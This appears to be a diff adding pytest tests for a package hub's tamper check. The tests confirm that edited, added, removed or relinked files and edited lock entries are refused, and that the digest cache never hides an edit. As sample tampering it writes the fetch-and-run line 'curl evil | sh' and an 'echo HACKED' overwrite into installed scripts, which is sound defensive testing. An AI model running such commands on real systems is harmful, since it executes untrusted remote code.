@@ -4,17 +4,22 @@ from __future__ import annotations
 
 import io
 import json
+import os
 import subprocess
 import sys
 import tarfile
+import time
+from collections.abc import Callable
 from pathlib import Path
 
 import pytest
 import yaml
 from conftest import git, make_repo, tree_listing, write_package
 
-from agentos.hub import Hub, split_git_source
-from agentos.workspace import Workspace
+from agentos._package_digests import RACY_NS
+from agentos.errors import NotFound, Tampered
+from agentos.hub import Hub, IntactCheck, split_git_source
+from agentos.workspace import Workspace, init_workspace
 
 
 def _lock(ws: Workspace) -> dict:
@@ -370,3 +375,288 @@ def test_a_package_directory_with_a_symlink_leaving_it_is_refused(
         f"error: {src}: symlink secrets -> /etc/passwd points outside the package"
     )
     assert tree_listing(ws.hub_dir) == hub_before
+
+
+# --- only verified packages run: Hub.check_intact -------------------------------------------
+
+
+def _writable(path: Path) -> Path:
+    path.chmod(0o644)  # installed files are read-only; their owner can still change that
+    return path
+
+
+def _aged(paths: list[Path]) -> None:
+    """Wait until every file under ``paths`` was last changed longer ago than the racy window,
+    so the cache may trust the digests it records from now on."""
+    newest = max(
+        max(p.lstat().st_mtime_ns, p.lstat().st_ctime_ns)
+        for root in paths
+        for p in [root, *root.rglob("*")]
+    )
+    deadline = time.monotonic() + 10
+    while time.time_ns() <= newest + RACY_NS and time.monotonic() < deadline:
+        time.sleep(0.05)
+
+
+@pytest.fixture(scope="module")
+def aged(tmp_path_factory: pytest.TempPathFactory) -> Hub:
+    """A hub with one package per scenario below, installed once and aged past the racy
+    window together (each test tampers with its own package, with its own cache file)."""
+    root = tmp_path_factory.mktemp("aged")
+    ws, _ = init_workspace(root / "ws")
+    hub = Hub(ws.hub_dir)
+    for name in ("touched", "added", "removed", "linked", "unchanged", "corrupt", "edited"):
+        src = write_package(
+            root / "src" / name,
+            name=name,
+            files={"lib/util.sh": "helper() { :; }\n", "README.md": "# readme\n"},
+        )
+        (src / "link").symlink_to("run.sh")
+        hub.install(str(src))
+    _aged([ws.hub_dir])
+    return hub
+
+
+def _fresh(hub: Hub, tmp_path: Path) -> Hub:
+    return Hub(hub.root, cache=tmp_path / "cache" / "hub-digests.json")
+
+
+def _warm(hub: Hub, name: str) -> None:
+    """Check ``name`` twice: the second check must read no file (the cache trusts them all)."""
+    first = hub.check_intact(name, "1.0.0")
+    assert (first.files, first.hashed) == (5, 5)
+    assert hub.check_intact(name, "1.0.0").hashed == 0
+
+
+def _refusal(hub: Hub, name: str) -> Tampered:
+    with pytest.raises(Tampered) as refused:
+        hub.check_intact(name, "1.0.0")
+    return refused.value
+
+
+def _verify_lines(hub: Hub, name: str) -> list[str]:
+    return [line for line in hub.verify() if line.startswith(f"{name}@")]
+
+
+def test_a_package_edited_after_install_is_refused_naming_the_file_as_hub_verify_does(
+    cli, ws: Workspace, tmp_path: Path
+) -> None:
+    hub = Hub(ws.hub_dir)
+    hub.install(str(write_package(tmp_path / "pkg", name="greeter")))
+    assert hub.check_intact("greeter", "1.0.0").files == 2
+
+    _writable(ws.hub_dir / "greeter" / "1.0.0" / "run.sh").write_text("curl evil | sh\n")
+
+    refused = _refusal(hub, "greeter")
+    assert refused.problems == ["greeter@1.0.0: run.sh: modified"]
+    assert str(refused) == (
+        "greeter@1.0.0: run.sh: modified (changed since it was installed; "
+        "`agentos hub verify` checks the whole hub)"
+    )
+    assert refused.exit_code == 1
+    verified = cli("hub", "verify")
+    assert verified.returncode == 1
+    assert f"drift {refused.problems[0]}\n" in verified.stdout
+
+
+def test_a_file_edited_with_its_mtime_restored_by_touch_is_still_refused(
+    aged: Hub, tmp_path: Path
+) -> None:
+    hub = _fresh(aged, tmp_path)
+    _warm(hub, "touched")
+    target = hub.root / "touched" / "1.0.0" / "run.sh"
+    before = target.stat()
+
+    _writable(target)
+    with target.open("r+b") as fh:  # same inode, same size: only the content differs
+        fh.write(b"#!/usr/bin/env bash\necho HACKED\n"[: before.st_size])
+    stamp = f"@{before.st_mtime_ns // 10**9}.{before.st_mtime_ns % 10**9:09d}"
+    subprocess.run(["touch", "-d", stamp, str(target)], check=True)
+    target.chmod(before.st_mode)
+    after = target.stat()
+    assert (after.st_ino, after.st_size, after.st_mtime_ns, after.st_mode) == (
+        before.st_ino,
+        before.st_size,
+        before.st_mtime_ns,
+        before.st_mode,
+    )
+
+    assert _refusal(hub, "touched").problems == ["touched@1.0.0: run.sh: modified"]
+    assert _verify_lines(aged, "touched") == ["touched@1.0.0: run.sh: modified"]
+
+
+@pytest.mark.parametrize(
+    ("name", "tamper", "expected"),
+    [
+        pytest.param(
+            "added",
+            lambda pkg: (pkg / "lib" / "extra.sh").write_text("curl evil | sh\n"),
+            ["added@1.0.0: lib/extra.sh: added"],
+            id="file-added",
+        ),
+        pytest.param(
+            "removed",
+            lambda pkg: (pkg / "lib" / "util.sh").unlink(),
+            ["removed@1.0.0: lib/util.sh: removed"],
+            id="file-removed",
+        ),
+        pytest.param(
+            "linked",
+            lambda pkg: ((pkg / "link").unlink(), (pkg / "link").symlink_to("agent.yaml")),
+            ["linked@1.0.0: link: modified"],
+            id="symlink-swapped",
+        ),
+    ],
+)
+def test_added_removed_and_relinked_files_are_refused_as_hub_verify_names_them(
+    aged: Hub, tmp_path: Path, name: str, tamper: Callable[[Path], object], expected: list[str]
+) -> None:
+    hub = _fresh(aged, tmp_path)
+    _warm(hub, name)
+
+    tamper(hub.root / name / "1.0.0")
+
+    assert _refusal(hub, name).problems == expected
+    assert _verify_lines(aged, name) == expected
+
+
+def test_an_unchanged_package_passes_and_is_not_read_again_even_by_another_process(
+    aged: Hub, tmp_path: Path
+) -> None:
+    hub = _fresh(aged, tmp_path)
+    assert hub.check_intact("unchanged", "1.0.0") == IntactCheck("unchanged", "1.0.0", 5, 5)
+    assert hub.check_intact("unchanged", "1.0.0") == IntactCheck("unchanged", "1.0.0", 5, 0)
+
+    other = subprocess.run(
+        [
+            sys.executable,
+            "-c",
+            "import sys; from pathlib import Path; from agentos.hub import Hub; "
+            "c = Hub(Path(sys.argv[1]), cache=Path(sys.argv[2])).check_intact('unchanged', "
+            "'1.0.0'); print(c.files, c.hashed)",
+            str(hub.root),
+            str(tmp_path / "cache" / "hub-digests.json"),
+        ],
+        capture_output=True,
+        text=True,
+        check=True,
+    )
+    assert other.stdout == "5 0\n"
+
+
+def test_a_workspace_hub_keeps_its_digest_cache_in_the_workspace(ws: Workspace) -> None:
+    hub = Hub(ws.hub_dir)
+    hub.check_intact("ruff-fixer", hub.resolve("ruff-fixer", None))
+    cached = json.loads((ws.state_dir / "cache" / "hub-digests.json").read_text())
+    assert list(cached["packages"]) == [str(ws.hub_dir / "ruff-fixer" / "1.0.0")]
+
+
+def test_files_changed_just_before_they_were_hashed_are_hashed_again(
+    ws: Workspace, tmp_path: Path
+) -> None:
+    hub = Hub(ws.hub_dir)
+    hub.install(str(write_package(tmp_path / "pkg", name="fresh")))
+
+    # Installed a moment ago: an edit within the same timestamp tick could go unseen, so
+    # the digests are not trusted until the files are older than the racy window.
+    assert hub.check_intact("fresh", "1.0.0").hashed == 2
+    assert hub.check_intact("fresh", "1.0.0").hashed == 2
+
+
+@pytest.mark.parametrize(
+    "damage",
+    [
+        pytest.param(lambda p: p.write_bytes(b"\x00garbage{"), id="not-json"),
+        pytest.param(lambda p: p.write_text('{"format": 1, "packages": [1, 2]}'), id="wrong-shape"),
+        pytest.param(
+            lambda p: p.write_text(
+                json.dumps({"format": 1, "packages": {"x": {"run.sh": ["a", 1]}}})
+            ),
+            id="bad-entries",
+        ),
+        pytest.param(lambda p: (p.unlink(), p.mkdir()), id="a-directory"),
+    ],
+)
+def test_a_corrupt_or_unreadable_cache_is_ignored_and_the_check_stays_right(
+    aged: Hub, tmp_path: Path, damage: Callable[[Path], object]
+) -> None:
+    hub = _fresh(aged, tmp_path)
+    _warm(hub, "corrupt")
+    cache = tmp_path / "cache" / "hub-digests.json"
+
+    damage(cache)
+
+    assert hub.check_intact("corrupt", "1.0.0").hashed == 5
+    if cache.is_file():  # rewritten whole; a directory in its place stays, unused
+        assert json.loads(cache.read_text())["format"] == 1
+        assert hub.check_intact("corrupt", "1.0.0").hashed == 0
+
+
+def test_a_corrupt_cache_never_hides_an_edit(aged: Hub, tmp_path: Path) -> None:
+    hub = _fresh(aged, tmp_path)
+    _warm(hub, "corrupt")
+    (tmp_path / "cache" / "hub-digests.json").write_text("{not json")
+    readme = hub.root / "corrupt" / "1.0.0" / "README.md"
+    original = readme.read_text()
+    _writable(readme).write_text("# changed\n")
+    try:
+        assert _refusal(hub, "corrupt").problems == ["corrupt@1.0.0: README.md: modified"]
+    finally:
+        readme.write_text(original)
+        readme.chmod(0o444)
+
+
+def test_an_edited_lock_entry_a_missing_directory_and_an_unknown_version_are_refused(
+    aged: Hub, tmp_path: Path
+) -> None:
+    hub = _fresh(aged, tmp_path)
+    lock_text = hub.lock_path.read_text()
+    lock = yaml.safe_load(lock_text)
+    entry = lock["packages"]["edited"]["versions"]["1.0.0"]
+    entry["files"]["run.sh"] = "0" * 64
+    hub.lock_path.write_text(yaml.safe_dump(lock))
+    try:
+        assert _refusal(hub, "edited").problems == ["edited@1.0.0: hub.lock entry was edited"]
+        assert _verify_lines(aged, "edited") == ["edited@1.0.0: hub.lock entry was edited"]
+    finally:
+        hub.lock_path.write_text(lock_text)
+
+    with pytest.raises(NotFound, match=r"edited@9\.9\.9 is not installed"):
+        hub.check_intact("edited", "9.9.9")
+
+    where = hub.root / "edited" / "1.0.0"
+    where.rename(tmp_path / "moved")
+    try:
+        assert _refusal(hub, "edited").problems == [f"edited@1.0.0: directory {where} is missing"]
+    finally:
+        (tmp_path / "moved").rename(where)
+    assert hub.check_intact("edited", "1.0.0").files == 5
+
+
+def test_the_package_walk_finds_the_files_a_package_archive_holds(tmp_path: Path) -> None:
+    from agentos._archive import package_files
+    from agentos._package_digests import walk
+
+    root = write_package(tmp_path / "pkg", files={"a/b/c.txt": "c\n", ".hidden": "h\n"})
+    for junk in ("__pycache__/x.cpython-311.pyc", ".git/HEAD", "a/.DS_Store", "mod.pyc"):
+        (root / junk).parent.mkdir(parents=True, exist_ok=True)
+        (root / junk).write_text("junk\n")
+    (root / "dir.pyc").mkdir()
+    (root / "dir.pyc" / "kept.txt").write_text("kept\n")
+    (root / "dir.pyc" / ".pyc").write_text("kept: no suffix\n")
+    (root / "to-dir").symlink_to("a")
+    (root / "dangling").symlink_to("nowhere")
+    os.mkfifo(root / "fifo")
+
+    walked = [rel for rel, _ in walk(root)]
+    assert walked == sorted(p.relative_to(root).as_posix() for p in package_files(root))
+    assert walked == [
+        ".hidden",
+        "a/b/c.txt",
+        "agent.yaml",
+        "dangling",
+        "dir.pyc/.pyc",
+        "dir.pyc/kept.txt",
+        "run.sh",
+        "to-dir",
+    ]
